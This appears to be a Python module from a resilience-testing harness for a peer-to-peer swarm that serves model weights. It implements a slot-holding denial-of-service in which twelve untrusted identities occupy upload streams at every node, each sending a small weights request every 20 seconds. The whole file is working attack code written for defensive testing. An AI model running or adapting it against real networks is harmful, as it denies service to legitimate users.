"""Upload places that are held without use.

There are many identities, each with one small question every 20 s.
"""

from __future__ import annotations

import asyncio
import contextlib

from attacks.target import Target, untrusted_peer
from protocols.errors import SwarmError
from protocols.pieces import WeightsRequest
from protocols.services import PIECES

IDENTITIES = 12
EVERY_S = 20.0


async def attack(target: Target) -> None:
    await asyncio.gather(*(_hold_all(target) for _ in range(IDENTITIES)))


async def _hold_all(target: Target) -> None:
    """One identity, a place at each node."""
    us = await untrusted_peer(target)
    target.on_attack()
    question = WeightsRequest(model=us.weights.model).encode()

    async def hold(number: int) -> None:
        hop = us.hop(number)
        while True:
            with contextlib.suppress(SwarmError):
                channel = await us.peer.pool.channel(hop.peer, hop.addresses, hop.certificate)
                stream = await channel.stream(PIECES)
                while True:
                    await stream.send(question)
                    await stream.receive()
                    target.arrived["answers"] += 1
                    await asyncio.sleep(EVERY_S)
            await asyncio.sleep(0.1)

    await asyncio.gather(*map(hold, range(len(us.nodes))))
